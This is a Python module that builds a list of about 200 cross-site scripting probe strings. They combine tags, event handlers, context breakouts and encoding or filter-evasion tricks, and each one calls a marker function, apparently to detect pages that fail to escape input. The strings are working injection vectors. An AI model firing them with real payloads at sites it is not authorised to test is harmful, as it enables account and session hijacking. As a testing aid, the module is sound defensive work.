"""About 200 texts that become script where something forgets to escape them; each would call `xssprobe`."""

_EVENTS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart"),
    *("ontoggle", "onpointerenter", "onscroll", "onbeforeinput"),
)
_TAGS = (
    *("<img src=x {e}={c}>", "<svg {e}={c}>", "<body {e}={c}>", "<details open {e}={c}>x", "<video src=x {e}={c}>"),
    *("<input autofocus {e}={c}>", "<a xssprobe href=# {e}={c}>x</a>", "<xssprobe {e}={c} tabindex=1>"),
)
_BREAKOUTS = ("", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "</style>", "`>", "&quot;>", "]]>", "*/")
_WHOLE = (
    *("<script>{c}</script>", "<script src=data:,{c}></script>", "<script type=module>{c}</script>"),
    *("<iframe srcdoc='<script>{c}</script>'>", "<iframe src=javascript:{c}>", "<object data=javascript:{c}>"),
    *("<a href=javascript:{c}>x</a>", "<a href='java\tscript:{c}'>x</a>", "<form action=javascript:{c}><button>x"),
    *("<base href=javascript:{c}//>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>"),
    *("<link rel=stylesheet href=data:,{c}>", "<style>@import 'data:,{c}'</style>", "<math href=javascript:{c}>x"),
    *("<svg><script>{c}</script></svg>", "<svg><a xlink:href=javascript:{c}><text>x", "<svg><animate onbegin={c}>"),
    *("<svg><use href=data:,{c}>", "<template><script>{c}</script></template>"),
    *("<noscript><p title='</noscript><img src=x onerror={c}>'>", "<<script>{c}//<</script>"),
    *("<scr<script>ipt>{c}</script>", "<ScRiPt>{c}</sCrIpT>", "<script/xssprobe>{c}</script>"),
    *("<img src=`x`onerror={c}>", "<img/src=x/onerror={c}>", "<img\nsrc=x\nonerror={c}>"),
    *("<!--><img src=x onerror={c}>-->", "' onmouseover={c} x='", '" onmouseover={c} x="'),
    *('" autofocus onfocus={c} x="', "' style=animation-name:x onanimationstart={c}"),
    *("javascript:{c}", "data:text/html,<script>{c}</script>", "{{{{{c}}}}}", "${{{c}}}", "<%={c}%>", "#{{{c}}}"),
    *("[[${{{c}}}]]", "\\u003cscript\\u003e{c}\\u003c/script\\u003e", "\\x3cscript\\x3e{c}"),
    *("&lt;script&gt;{c}&lt;/script&gt;", "&#60;script&#62;{c}", "%3Cscript%3E{c}%3C/script%3E"),
    *("＜script＞{c}＜/script＞", "<\u200bscript>{c}</script>", "<script\u2028>{c}</script>"),
    *("</script><script>{c}</script>", "<!--<script>{c}", "<!--<script></script>{c}", "\u2028{c}", "';{c};//"),
    *('";{c};//', "\\';{c};//", "<img src=x:x onerror=eval(name)>{c}", "<xml id=x><a xssprobe>{c}</a></xml>"),
    *("<isindex type=image src=1 onerror={c}>", "<marquee onstart={c}>", "<keygen autofocus onfocus={c}>"),
    *("<portal src=javascript:{c}>", "<bdo dir=rtl onclick={c}>x</bdo>"),
)


def _build() -> list[str]:
    shapes = [tag.replace("{e}", event) for tag in _TAGS for event in _EVENTS]
    broken = [
        breakout + end
        for end in ("<img src=x onerror={c}>", "<script>{c}</script>", "<svg onload={c}>.pdf")
        for breakout in _BREAKOUTS
    ]
    plain = [f"{breakout}<b id=xssprobe{{n}}>{{c}}</b>" for breakout in _BREAKOUTS]
    every = [*_WHOLE, *shapes, *broken, *plain, *(f"{one} {one}" for one in _TAGS_PLAIN)]
    return [shape.format(c=f"xssprobe({number})", n=number) for number, shape in enumerate(every)]


_TAGS_PLAIN = tuple(tag.replace("{e}", "onwheel") for tag in _TAGS)
SCRIPTS: list[str] = _build()
